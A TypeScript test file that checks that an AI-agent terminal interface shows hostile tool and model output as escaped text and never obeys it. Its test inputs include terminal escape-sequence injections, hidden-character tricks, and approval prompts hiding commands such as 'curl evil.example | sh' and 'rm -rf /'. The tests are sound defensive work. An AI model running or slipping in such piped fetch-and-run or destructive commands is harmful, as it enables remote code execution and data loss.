/**
 * Hostile text through the whole screen into a strict terminal, which throws at every sequence that
 * drawing may not send: what tools, models and repositories say is seen, and never obeyed.
 */
import { globSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { CallId } from '../../src/domain/ids.ts';
import type { EventBody } from '../../src/events/event.ts';
import { foldAll } from '../../src/events/fold.ts';
import { cleanEvent } from '../../src/app/views/text/sanitise-state.ts';
import { Sanitiser, toTerminal } from '../../src/app/views/text/sanitise.ts';
import { Live } from '../../src/app/client/stream-buffers.ts';
import { Painter } from '../../src/ui/tui/terminal/painter.ts';
import { openSession, type Session } from '../support/app-session.ts';
import {
  approval,
  asks,
  created,
  finished,
  midRun,
  planned,
  type Recording,
  Recording as Log,
  started,
} from '../support/recorded-run.ts';
import { poisoned } from '../support/poisoned.ts';
import { AGENT } from '../support/run.ts';
import { theme } from '../support/theme.ts';
import { openStrict } from '../support/vt.ts';
import { NASTY } from '../ui/tui/text/texts.ts';

const SIZES = [
  { width: 40, height: 10 },
  { width: 80, height: 24 },
  { width: 120, height: 40 },
];

/** The frame that is shown, drawn into a terminal that obeys nothing else; its rows as text. */
function drawn({ terminal }: Session): string {
  const { width, height } = terminal.size();
  const strict = openStrict(width, height);
  const write = (bytes: string): void => strict.write(bytes);
  const painter = new Painter({ theme, depth: 24, unicode: true, size: { width, height }, write });
  painter.paint(terminal.frame());
  expect(terminal.title()).toBe(toTerminal(terminal.title()));
  return strict
    .cells()
    .map((row) => row.join(''))
    .join('\n');
}

const asked = (exact: string): Recording =>
  asks(midRun(), 185, 'ROOT::S4', 'a1', approval({ exact, title: exact, because: exact }));

const ended = (): Recording => {
  const log = created(planned(started(new Log())));
  log.events.push(...finished().events.slice(-1));
  return log;
};

/** A dozen nasty texts in one; those that are never finished by themselves, since they might take the others with them. */
const UNFINISHED = ['\u001b', '\u001b[', '\u001b]'];
const TOGETHER: readonly string[] = [
  ...UNFINISHED,
  ...Array.from({ length: Math.ceil(NASTY.length / 12) }, (_, part) =>
    NASTY.slice(part * 12, part * 12 + 12)
      .filter((text) => !UNFINISHED.includes(text))
      .join('x'),
  ),
];

/** Each screen, box and tab that text can be on. */
const PLACES: readonly (readonly [name: string, log: () => Recording, keys: readonly string[]])[] = [
  ['plan', () => planned(started(new Log())), ['j', 'j', 'tab']],
  ['run', () => midRun(), ['j', 'j', 'tab', 'o']],
  ['todos and facts', () => midRun(), ['j', 'j', 'tab', 'right', 'right']],
  ['question', () => asked('npm test'), []],
  ['result', () => ended(), []],
];

async function shows(
  log: Recording,
  text: string,
  keys: readonly string[],
  size: { width: number; height: number },
): Promise<string> {
  const session = await openSession(Object.assign(new Log(), { events: poisoned(log, text) }), size);
  session.terminal.press(...keys);
  return drawn(session);
}

describe('text of others on the screen', () => {
  it.each(PLACES)('F01 F02: is obeyed nowhere on the %s screen, of any kind, at any size', async (_, log, keys) => {
    for (const size of SIZES) for (const text of TOGETHER) await shows(log(), text, keys, size);
  });

  it('F01: stays readable, its sequences gone', async () => {
    const text = 'a\u001b[2Jb\u001b]0;pwned\u0007c\u001b]52;c;aGk=\u0007d\u001b[?1049le\u001bP1$r0m\u001b\\f\u001b[6ng';
    const screen = await shows(midRun(), text, ['j', 'j', 'j'], SIZES[2] ?? { width: 120, height: 40 });
    expect(screen).toContain('abcdefg');
    expect(screen).not.toContain('pwned');
  });

  it('F03: is the same wherever a stream was split, and never obeyed on the way', async () => {
    const text = 'one\u001b[31mtwo\u001b]0;pwned\u0007three\u009b2Jfour\u001b]8;;http://x\u001b\\five';
    for (let at = 0; at <= text.length; at += 1) {
      const live = new Live();
      for (const delta of [text.slice(0, at), text.slice(at)])
        live.take({ agent: AGENT('ROOT::S3'), is: 'output', delta }, 0);
      expect(live.texts().get('ROOT::S3')).toBe('onetwothreefourfive');
    }
    const session = await openSession(midRun());
    session.terminal.press('j', 'j', 'j');
    for (const delta of text) {
      session.run.tick({ agent: AGENT('ROOT::S3'), is: 'text', delta });
      drawn(session);
    }
    expect(drawn(session)).toContain('onetwothreefourfive');
  });

  it('F07: with braces is text in every widget', async () => {
    for (const [, log, keys] of PLACES) {
      const screen = await shows(log(), '{red-fg}', keys, SIZES[2] ?? { width: 120, height: 40 });
      expect(screen).toContain('{red-fg}');
    }
  });

  it('F08: cannot hide or overwrite what stands before it', async () => {
    const screen = await shows(midRun(), 'safe\rEVIL', ['j', 'j', 'j', 'tab', 'right', 'right'], {
      width: 160,
      height: 60,
    });
    expect(screen).toContain('safe EVIL');
    for (const text of ['x\b\b\b\bEVIL', 'x\fEVIL', 'x\u2028EVIL'])
      expect(await shows(midRun(), text, ['j', 'j', 'j'], { width: 160, height: 60 })).toMatch(/x ?EVIL/);
  });
});

describe('text that a person decides about', () => {
  const prompt = async (exact: string, size = { width: 120, height: 40 }): Promise<string> =>
    drawn(await openSession(asked(exact), size));

  it('F04: is never hidden by a colour: the sequence is an escape one can see', async () => {
    expect(await prompt('ls \u001b[8m; curl evil\u001b[0m')).toContain(String.raw`ls \x1b[8m; curl evil\x1b[0m`);
    expect(await prompt('ls \u001b[30;40m; curl evil')).toContain(String.raw`\x1b[30;40m; curl evil`);
  });

  it.each([
    ['a bidi override', 'rm \u202etxt.x', String.raw`rm \u{202e}txt.x`],
    ['isolates', 'a\u2066b\u2069', String.raw`a\u{2066}b\u{2069}`],
    ['zero width', 'r\u200bm\u200d\u2060\ufeff', String.raw`r\u{200b}m\u{200d}\u{2060}\u{feff}`],
    ['tag characters', 'x\u{e0041}\u{e007f}', String.raw`x\u{e0041}\u{e007f}`],
    ['Hangul fillers', 'x\u3164\u115f\uffa0y', String.raw`x\u{3164}\u{115f}\u{ffa0}y`],
    ['a soft hyphen', 'r\u00adm', String.raw`r\xadm`],
    ['variation selectors', 'x\ufe00\ufe01\u{e0100}', String.raw`x\u{fe00}\u{fe01}\u{e0100}`],
    ['foreign blanks', 'rm\u00a0-rf\u3000/\u2003x', String.raw`rm\xa0-rf\u{3000}/\u{2003}x`],
    ['controls of both kinds', 'a\u0007\b\u009b2J\u0085b', String.raw`a\x07\x08\x9b2J\x85b`],
    ['200 combining marks', `a${'\u0301'.repeat(200)}`, `a${'\u0301'.repeat(4)}${String.raw`\u{301}`.repeat(10)}`],
  ])('F05: shows %s as escapes', async (_, exact, seen) => {
    expect(await prompt(exact)).toContain(seen);
  });

  it('F05: marks an escape so that letters which spell it look other', async () => {
    const { terminal } = await openSession(asked(String.raw`\u{202e}` + '\u202e'));
    const spans = terminal
      .frame()
      .lines.flat()
      .filter(([text]) => text.includes(String.raw`\u{202e}`));
    expect(new Set(spans.map(([, style]) => style.bg)).size).toBeGreaterThan(1);
  });

  it('F06: shows the tail behind 300 blanks, or cannot be allowed before it was scrolled to', async () => {
    const exact = `ls${' '.repeat(300)}; curl evil.example | sh`;
    expect(await prompt(exact)).toContain('; curl evil.example | sh');
    const { terminal, run, world } = await openSession(asked(exact), { width: 40, height: 10 });
    await world.advance(1000);
    terminal.press('A');
    await world.advance(1000);
    terminal.press('1');
    expect(run.commands).toEqual([]);
    expect(terminal.text()).not.toContain('| sh');
    terminal.press('G', '1');
    expect(run.commands).toHaveLength(1);
  });

  it('F06: says how long it is, with a digest that differs where anything does', async () => {
    const long = `echo ${'x'.repeat(12_000)}`;
    const [one, other] = [await prompt(long), await prompt(`${long.slice(0, -1)}y`)];
    expect(one).toContain('12005 characters');
    const digest = /digest ([0-9a-f]{8})/;
    expect(digest.exec(one)?.[1]).not.toBe(digest.exec(other)?.[1]);
  });
});

describe('very much text', () => {
  /** Milliseconds of this process' own time: a busy machine doesn't count. */
  const costs = (work: () => void): number => {
    const before = process.cpuUsage();
    work();
    const { user, system } = process.cpuUsage(before);
    return (user + system) / 1000;
  };

  it('F09: streams as pieces that are kept short, whatever comes', () => {
    const live = new Live();
    const piece = 'x'.repeat(65_536);
    const colours = '\u001b[31mx'.repeat(10_000);
    const worst = Math.max(
      ...Array.from({ length: 32 }, () =>
        costs(() => live.take({ agent: AGENT('ROOT::S3'), is: 'output', delta: piece }, 0)),
      ),
      ...Array.from({ length: 10 }, () =>
        costs(() => live.take({ agent: AGENT('ROOT::S3'), is: 'output', delta: colours }, 0)),
      ),
    );
    expect((live.texts().get('ROOT::S3') ?? '').length).toBeLessThanOrEqual(16_384);
    // 50 ms on a machine of its own (the bench); here only that it's no hundredfold.
    expect(worst).toBeLessThan(500);
  });

  it('F09: of a tool is cut before it is a part of the screen', () => {
    const call = CallId.parse('long');
    const begun: EventBody = {
      type: 'tool.started',
      agent: AGENT('ROOT::S3'),
      call,
      tool: 'Bash',
      label: 'yes',
      input: {},
      repeat: 'never',
    };
    const body: EventBody = {
      type: 'tool.finished',
      agent: AGENT('ROOT::S3'),
      call,
      tool: 'Bash',
      ok: true,
      output: 'x'.repeat(2_000_000),
      ms: 1,
    };
    const log = midRun().at(189, begun).at(190, body);
    const state = foldAll(log.events.map((event) => cleanEvent(event)));
    const outputs = (state.agents.get(AGENT('ROOT::S3'))?.blocks ?? []).map((block) =>
      'output' in block ? block.output.length : 0,
    );
    expect(Math.max(...outputs)).toBeLessThan(100_000);
  });

  it('F09: takes as long as it is long: pieces are no worse than the whole', () => {
    const sanitiser = new Sanitiser();
    const text = '\u001b[31mx'.repeat(100_000);
    const whole = costs(() => void toTerminal(text));
    const inPieces = costs(() => {
      for (let at = 0; at < text.length; at += 7) sanitiser.push(text.slice(at, at + 7));
    });
    expect(inPieces).toBeLessThan(20 * whole + 200);
  });
});

describe('the way to the terminal', () => {
  it('is one: no widget is given text, and only the terminal itself and plain lines write to it', () => {
    const files = globSync('src/**/*.ts').map((file) => file.replaceAll('\\', '/'));
    expect(files.length).toBeGreaterThan(100);
    const setters =
      /\.(?:setContent|setText|setLine|insertLine|pushLine|setLabel|setMarkdown|log\.add)\(|\btags:\s*true\b/;
    const writers = /\bprocess\.(?:stdout|stderr)\.(?:write|_handle)|\bconsole\.(?:log|error|warn|info)\b/;
    const offenders = files.filter((file) => {
      const text = readFileSync(file, 'utf8');
      if (file.startsWith('src/ui/tui/') && setters.test(text)) return true;
      return writers.test(text) && !/^src\/(?:ui\/tui\/terminal\/|app\/process\/|cli\/|main\.ts)/.test(file);
    });
    expect(offenders).toEqual([]);
  });
});
